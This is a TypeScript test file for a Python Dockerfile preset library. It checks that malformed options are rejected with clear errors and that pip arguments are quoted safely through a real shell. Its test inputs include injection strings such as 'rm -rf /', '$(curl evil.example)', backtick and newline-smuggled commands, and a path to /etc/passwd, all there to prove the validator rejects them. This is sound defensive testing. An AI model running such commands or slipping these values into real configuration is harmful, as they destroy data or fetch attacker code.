/**
 * Bad input to the Python presets: each mistake is reported once, naming the construct path, the value
 * and the fix; all problems come in one error; in a projen project nothing is written. Shell quoting of
 * pip arguments is proven by a real /bin/sh reading the rendered RUN line.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Construct } from 'constructs';
import { DockerfileParser } from 'dockerfile-ast';
import fc from 'fast-check';
import { Project } from 'projen';
import {
  BaseImage, DependencyManifest, HealthCheck, PythonAppDockerfile, PythonAppDockerfileOptions, PythonDevDockerfile,
  PythonFramework, PythonOsFamily, SystemPackages,
} from '../../src';
import { DockyardValidationError } from '../../src/core/problems';
import { shellCommand } from '../dockerfile/parsed';
import { synthFailure } from '../support/synth';

const scope = () => new Construct(undefined as unknown as Construct, 'Root');

/** The problems of a preset built with `options` (the error must be a DockyardValidationError). */
function problems(options: PythonAppDockerfileOptions, dev = false): string[] {
  const base = { framework: PythonFramework.django('mysite'), ...options };
  const preset = dev ? new PythonDevDockerfile(scope(), 'Dev', base) : new PythonAppDockerfile(scope(), 'App', base);
  try {
    preset.render();
  } catch (e) {
    if (!(e instanceof DockyardValidationError)) throw e;
    return e.problems;
  }
  return [];
}

const AT = '[Root/App/Dockerfile] ';

describe('each bad input gives one clear error naming the construct, the value and the fix', () => {
  test.each([
    ['3.11; rm -rf /'], ['3'], ['latest'], ['2.7'], ['3.7'], ['3.11\nRUN id'], ['3.x'],
  ])('malformed Python version %j', (version) => {
    expect(problems({ pythonVersion: version })).toEqual([
      `${AT}pythonVersion ${JSON.stringify(version)} is not a Python version of the form "3.<minor>[.<patch>]" (3.8 or later); pass e.g. pythonVersion: "3.11" or "3.12.4"`,
    ]);
  });

  test.each([
    ['gcc; rm -rf /'], ['$(curl evil.example)'], ['musl-dev && id'], ['a b'], ['`id`'], ['pkg|x'], ["x'"], ['gcc\nRUN id'], ['>x'],
  ])('package name with shell metacharacters %j', (name) => {
    expect(problems({ buildPackages: SystemPackages.apk(['gcc', name]) })).toEqual([
      `${AT}buildPackages: ${JSON.stringify(name)} is not a valid apk package name (letters, digits and "+.-" only, optionally pinned as "name=version" (exact, e.g. "libpq=16.3-r0") or "name~version" (that version prefix, e.g. "libpq~16"); no spaces or shell characters such as ";", "&", "|", "$" or quotes); give one package name per list entry`,
    ]);
    expect(problems({ osFamily: PythonOsFamily.DEBIAN_SLIM, runtimePackages: SystemPackages.apt([name]) })[0]).toContain(`runtimePackages: ${JSON.stringify(name)} is not a valid apt package name`);
  });

  test.each([
    ['libpq5=15.8 0'], ['libpq5= 15.8'], ['libpq5=15.8;id'], ['libpq5=$(id)'], ['libpq5=`id`'], ['libpq5=15|x'], ['libpq5=15&&id'],
    ["libpq5='15'"], ['libpq5="15"'], ['libpq5='], ['libpq5==15'], ['libpq5=15\nRUN id'], ['libpq5=15>x'], ['libpq5=15\u202e'],
  ])('a version pin with spaces, shell or control characters %j', (pin) => {
    expect(problems({ osFamily: PythonOsFamily.DEBIAN_SLIM, runtimePackages: SystemPackages.apt(['gcc', pin]) })).toEqual([
      `${AT}runtimePackages: ${JSON.stringify(pin)} is not a valid apt package name (letters, digits and "+.-" only, optionally pinned as "name=version" (exact, e.g. "libpq5=15.8-0+deb12u1"); no spaces or shell characters such as ";", "&", "|", "$" or quotes); give one package name per list entry`,
    ]);
    const apk = pin.replace('libpq5=', 'libpq~');
    expect(problems({ buildPackages: SystemPackages.apk([apk]) })).toEqual([expect.stringContaining(`buildPackages: ${JSON.stringify(apk)} is not a valid apk package name`)]);
  });

  test('a pin the managers accept is accepted', () => {
    expect(problems({ osFamily: PythonOsFamily.DEBIAN_SLIM, runtimePackages: SystemPackages.apt(['libpq5=15.8-0+deb12u1', 'libssl3=1:3.0.14~rc1']) })).toEqual([]);
    expect(problems({ runtimePackages: SystemPackages.apk(['libpq=16.3-r0', 'musl-dev~1.2']) })).toEqual([]);
  });

  test.each<[string, string[] | string, string]>([
    ['relative ..', ['../etc'], 'writablePaths entry "../etc" must be a plain directory path, absolute or relative to the working directory /app (letters, digits and "._-/@+", no "." or ".." segments, no trailing "/"), e.g. "media" or "/var/cache/app"'],
    ['.. inside', ['media/../..'], 'writablePaths entry "media/../.." must be a plain directory path'],
    ['absolute ..', ['/app/../etc'], 'writablePaths entry "/app/../etc" must be a plain directory path'],
    ['the working directory as "."', ['.'], 'writablePaths entry "." must be a plain directory path'],
    ['empty', [''], 'writablePaths entry "" must be a plain directory path'],
    ['shell characters', ['media; chmod 777 /app'], 'writablePaths entry "media; chmod 777 /app" must be a plain directory path'],
    ['a glob', ['/var/*'], 'writablePaths entry "/var/*" must be a plain directory path'],
    ['a space', ['user uploads'], 'writablePaths entry "user uploads" must be a plain directory path'],
    ['a newline', ['media\nUSER root'], 'writablePaths entry "media\\nUSER root" must be a plain directory path'],
    ['a bidi control', ['media\u202e'], 'writablePaths entry "media\u202e" must be a plain directory path'],
    ['a trailing slash', ['/var/cache/app/'], 'writablePaths entry "/var/cache/app/" must be a plain directory path'],
    ['the working directory', ['/app'], 'writablePaths entry "/app" is the working directory /app or a directory above it: the application would be writable again; name only the directories it writes, e.g. "media"'],
    ['a parent of the working directory', ['/'], 'writablePaths entry "/" is the working directory /app or a directory above it'],
    ['the virtual environment', ['/opt/venv/lib'], 'writablePaths entry "/opt/venv/lib" overlaps the virtual environment /opt/venv: the installed dependencies must stay read-only; choose another directory, e.g. "/var/cache/app"'],
    ['above the virtual environment', ['/opt'], 'writablePaths entry "/opt" overlaps the virtual environment /opt/venv'],
    ['not a list', 'media', 'writablePaths must be a list of paths, e.g. ["media", "/var/cache/app"], got "media"'],
  ])('writablePaths: %s', (_what, writablePaths, message) => {
    const found = problems({ writablePaths: writablePaths as string[] });
    expect(found).toHaveLength(1);
    expect(found[0].startsWith(`${AT}${message}`)).toBe(true);
  });

  test('writablePaths: every bad entry reported, the good ones kept', () => {
    const found = problems({ writablePaths: ['media', '../x', '/app', 'cache'] });
    expect(found.map(f => f.slice(AT.length, AT.length + 33))).toEqual(['writablePaths entry "../x" must b', 'writablePaths entry "/app" is the']);
  });

  test.each<[string, PythonAppDockerfileOptions, string]>([
    ['sources', { sources: ['../secrets'] }, 'sources "../secrets" leaves the build context'],
    ['sources', { sources: ['app/../../etc'] }, 'sources "app/../../etc" leaves the build context'],
    ['sources', { sources: ['/etc/passwd'] }, 'sources "/etc/passwd" is absolute'],
    ['sources', { sources: ['src dir'] }, 'sources "src dir" contains characters other than'],
    ['dependencyFiles', { dependencyFiles: ['../vendor'] }, 'dependencyFiles "../vendor" leaves the build context'],
    ['dependencies', { dependencies: DependencyManifest.requirements({ files: ['../requirements.txt'] }) }, 'dependencies file "../requirements.txt" leaves the build context'],
    ['docsPath', { docsPath: '../README.md' }, 'docsPath "../README.md" leaves the build context'],
  ])('a path that leaves the build context: %s', (_what, options, message) => {
    const found = problems(options);
    expect(found).toHaveLength(1);
    expect(found[0].startsWith(`${AT}${message}`)).toBe(true);
    expect(found[0]).toMatch(/give a path (inside the build context|relative to the project root)/);
  });

  test('root as the runtime user, by name or by id', () => {
    expect(problems({ userName: 'root' })).toEqual([`${AT}userName "root": the runtime user must not be root (hadolint DL3002); use a dedicated user such as "app"`]);
    expect(problems({ uid: 0 })).toEqual([`${AT}uid 0 is root: the runtime user must not be root (hadolint DL3002); use a fixed non-root id such as 10001`]);
    expect(problems({ gid: 0 })).toEqual([`${AT}gid 0 is root: the runtime user must not be root (hadolint DL3002); use a fixed non-root id such as 10001`]);
    expect(problems({ uid: -5 })[0]).toContain('uid -5 must be an integer between 1 and 2147483647');
    expect(problems({ userName: 'App User' })[0]).toContain('userName "App User" must be a user name');
  });

  test('a command given as one shell string where exec form is expected', () => {
    expect(problems({ command: ['gunicorn mysite.wsgi:application --bind 0.0.0.0:8000'] })).toEqual([
      `${AT}command ["gunicorn mysite.wsgi:application --bind 0.0.0.0:8000"] passes a whole shell command line as one string, but exec form runs no shell; `
      + 'split it into words: ["gunicorn","mysite.wsgi:application","--bind","0.0.0.0:8000"]',
    ]);
    expect(problems({ entrypoint: ['/docker-entrypoint.sh --migrate'] })[0]).toContain('entrypoint ["/docker-entrypoint.sh --migrate"] passes a whole shell command line as one string');
    // what a JavaScript or Python caller could pass without a type checker
    expect(problems({ command: 'gunicorn mysite.wsgi' as unknown as string[] })).toEqual([
      `${AT}command must be an exec-form list of strings such as ["gunicorn", "mysite.wsgi:application"], got "gunicorn mysite.wsgi"`,
    ]);
    expect(problems({ command: [] })[0]).toContain('command is empty');
  });

  test('conflicting options', () => {
    expect(problems({ buildPackages: SystemPackages.apt(['gcc']) })).toEqual([
      `${AT}buildPackages are apt packages but osFamily is alpine, which installs with apk; pass SystemPackages.apk([...]) with alpine package names, or osFamily: PythonOsFamily.DEBIAN_SLIM`,
    ]);
    expect(problems({ osFamily: PythonOsFamily.DEBIAN_SLIM, runtimePackages: SystemPackages.apk(['libpq']) })[0])
      .toContain('runtimePackages are apk packages but osFamily is debian, which installs with apt');
    expect(problems({ runtimeImage: BaseImage.fromRegistry('python:3.11-slim-bookworm') })).toEqual([
      `${AT}runtimeImage "python:3.11-slim-bookworm" is a Debian image but osFamily is Alpine (packages would be installed with apk); pass osFamily: PythonOsFamily.DEBIAN_SLIM, or an Alpine image`,
    ]);
    expect(problems({ osFamily: PythonOsFamily.DEBIAN_SLIM, buildImage: BaseImage.fromRegistry('python:3.11-alpine3.20') })[0])
      .toContain('buildImage "python:3.11-alpine3.20" is an Alpine image but osFamily is Debian');
    expect(problems({ framework: PythonFramework.wsgi('app:application'), collectStatic: true })).toEqual([
      `${AT}collectStatic needs a Django project; pass framework: PythonFramework.django("<project>") or drop collectStatic`,
    ]);
    expect(problems({ pythonVersion: '3.10', dependencies: DependencyManifest.pyproject() })[0]).toContain('needs Python 3.11 or later, but pythonVersion is "3.10"');
    expect(problems({ framework: undefined })).toEqual([
      `${AT}no command: pass framework (e.g. PythonFramework.django("mysite")) for the default command, or command: ["executable", "arg", ...]`,
    ]);
    expect(problems({ healthCheck: HealthCheck.none(), healthCheckPath: '/health/' })).toEqual([
      `${AT}healthCheck and healthCheckPath are both given, but healthCheckPath only configures the default check; drop one of them`,
    ]);
    expect(problems({ docsPath: 'docker/Dockerfile.prod' })[0]).toContain('docsPath "docker/Dockerfile.prod" is the Dockerfile itself');
  });

  test('malformed enum-like values and other fields', () => {
    expect(problems({ framework: PythonFramework.django('my-site') })).toEqual([`${AT}framework: Django project "my-site" must be a Python package name such as "mysite"`]);
    expect(problems({ framework: PythonFramework.wsgi('app') })[0]).toContain('WSGI application "app" must be "module:attribute"');
    expect(problems({ osFamily: PythonOsFamily.alpine('edge; id') })[0]).toContain('Alpine release "edge; id" must look like "3.20"');
    expect(problems({ osFamily: PythonOsFamily.debian('Bookworm') })[0]).toContain('Debian codename "Bookworm" must be lowercase letters');
    expect(problems({ workdir: 'app' })[0]).toContain('workdir "app" must be a plain absolute path');
    expect(problems({ venvPath: '/opt/$(id)' })[0]).toContain('venvPath "/opt/$(id)" must be a plain absolute path');
    expect(problems({ port: 70000 })[0]).toContain('port 70000 must be an integer between 1 and 65535');
    expect(problems({ healthCheckPath: "/x'); import os #" })[0]).toContain('healthCheckPath');
    expect(problems({ pipWheelArgs: ['--index-url', 'https://x\nRUN id'] })[0]).toContain('pipWheelArgs');
    expect(problems({ dependencies: DependencyManifest.pyproject({ devExtras: ['dev; id'] }) }, true)[0]).toContain('devExtras entry "dev; id" is not an extra name');
    expect(problems({ dependencies: DependencyManifest.pyproject({ devGroups: ['dev group'] }) }, true)).toEqual([
      '[Root/Dev/Dockerfile] dependencies devGroups entry "dev group" is not a dependency group name such as "dev"',
    ]);
    expect(problems({ dependencies: DependencyManifest.poetry({ devGroups: ['$(id)'] }) }, true)).toEqual([
      '[Root/Dev/Dockerfile] dependencies devGroups entry "$(id)" is not a dependency group name such as "dev"',
    ]);
    expect(problems({ pythonVersion: '3.10', dependencies: DependencyManifest.poetry() })).toEqual([
      `${AT}dependencies: DependencyManifest.poetry() reads pyproject.toml with tomllib, which needs Python 3.11 or later, but pythonVersion is "3.10" (pythonVersion); raise pythonVersion or use DependencyManifest.requirements()`,
    ]);
  });

  test('every problem at once, each once', () => {
    const found = problems({
      pythonVersion: 'three',
      buildPackages: SystemPackages.apt(['gcc']),
      sources: ['../x'],
      uid: 0,
      command: ['gunicorn app'],
      writablePaths: ['/app'],
    });
    expect(found).toHaveLength(6);
    expect(found.every(p => p.startsWith(AT))).toBe(true);
  });
});

describe('in a projen project', () => {
  let outdir: string;
  beforeEach(() => {
    outdir = mkdtempSync(join(tmpdir(), 'dockyard-preset-projen-'));
  });
  afterEach(() => rmSync(outdir, { recursive: true, force: true }));

  test('writes the Dockerfiles, their ignore files and docs, read-only, equal to render()', () => {
    const project = new Project({ name: 'site', outdir });
    const prod = new PythonAppDockerfile(project, 'Prod', { framework: PythonFramework.django('mysite') });
    const dev = new PythonDevDockerfile(project, 'Dev', { framework: PythonFramework.django('mysite') });
    project.synth();
    for (const preset of [prod, dev]) {
      const written = readFileSync(join(outdir, preset.dockerfile.path), 'utf8');
      // projen's "generated" marker is a comment line; otherwise the file is render()'s text
      const marker = DockerfileParser.parse(written).getComments().map(c => c.getContent()).find(c => c.includes('projen'));
      expect(marker).toBeDefined();
      expect(written.split('\n').filter(l => l !== `# ${marker}`).join('\n')).toBe(preset.render());
      const docs = readFileSync(join(outdir, preset.docsPath!), 'utf8');
      const lines = docs.split('\n');
      const at = lines.findIndex(l => l.startsWith('<!-- ') && l.includes('projen'));
      expect(at).toBeGreaterThan(0);
      lines.splice(at, 2); // the marker comment and the blank line after it
      expect(lines.join('\n')).toBe(preset.renderDocs());
      expect(readFileSync(join(outdir, preset.dockerfile.ignoreFilePath!), 'utf8')).toContain(preset.renderIgnore());
      for (const f of [preset.dockerfile.path, preset.docsPath!, preset.dockerfile.ignoreFilePath!]) {
        // no write permission for anyone (projen's read-only generated files)
        expect([f, (statSync(join(outdir, f)).mode % 0o1000).toString(8)]).toEqual([f, expect.stringMatching(/^[45][045][045]$/)]);
      }
    }
  });

  test('bad input: synth throws listing every problem, and nothing is written', () => {
    const project = new Project({ name: 'site', outdir });
    new PythonAppDockerfile(project, 'Prod', { framework: PythonFramework.django('mysite'), pythonVersion: '3.11 ; id', uid: 0 });
    new PythonDevDockerfile(project, 'Dev', { framework: PythonFramework.django('mysite'), command: ['python3 manage.py runserver'] });
    const error = synthFailure(project);
    const root = project.node.path;
    expect(error.problems.map(p => p.slice(0, p.indexOf(']') + 1))).toEqual([
      `[${root}/Prod/Dockerfile]`, `[${root}/Prod/Dockerfile]`, `[${root}/Dev/Dockerfile]`,
    ]);
    expect(readdirSync(outdir)).toEqual([]);
    expect(existsSync(join(outdir, 'docker'))).toBe(false);
  });
});

describe('pip arguments reach pip literally through a real shell', () => {
  /** Runs the rendered `pip wheel` RUN line with /bin/sh, `python3` being a stub that prints its arguments. */
  function argsSeenByPip(pipWheelArgs: string[]): string[] {
    const preset = new PythonAppDockerfile(scope(), 'App', { framework: PythonFramework.django('mysite'), pipWheelArgs });
    const text = preset.render();
    const runs = DockerfileParser.parse(text).getInstructions().filter(i => i.getKeyword() === 'RUN');
    const wheel = shellCommand(runs.find(r => (shellCommand(r) ?? '').includes(' pip wheel '))!)!;
    const bin = mkdtempSync(join(tmpdir(), 'dockyard-stub-'));
    try {
      writeFileSync(join(bin, 'python3'), '#!/bin/sh\nprintf \'%s\\0\' "$@"\n');
      chmodSync(join(bin, 'python3'), 0o755);
      const r = spawnSync('/bin/sh', ['-c', wheel], { cwd: bin, env: { PATH: `${bin}:/usr/bin:/bin` }, encoding: 'utf8' });
      expect(r.status).toBe(0);
      return r.stdout.split('\0').slice(0, -1);
    } finally {
      rmSync(bin, { recursive: true, force: true });
    }
  }

  const fixed = ['-m', 'pip', 'wheel', '--wheel-dir', '/wheels', '-r', 'requirements.txt'];

  test('arguments with spaces, quotes, $, globs and semicolons', () => {
    const args = ['--index-url', 'https://user:p@ss w0rd@example.com/simple', "it's", '$(id)', '*.whl', 'a;b', '"q"', '~', ''];
    expect(argsSeenByPip(args)).toEqual([...fixed, ...args]);
  });

  test('property: any text without control characters or a trailing backslash', () => {
    const arg = fc.string({ unit: 'grapheme', maxLength: 12 })
      .filter(s => !/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(s) && !s.endsWith('\\'));
    fc.assert(fc.property(fc.array(arg, { maxLength: 4 }), args => {
      expect(argsSeenByPip(args)).toEqual([...fixed, ...args]);
    }), { numRuns: 60 });
  });
});
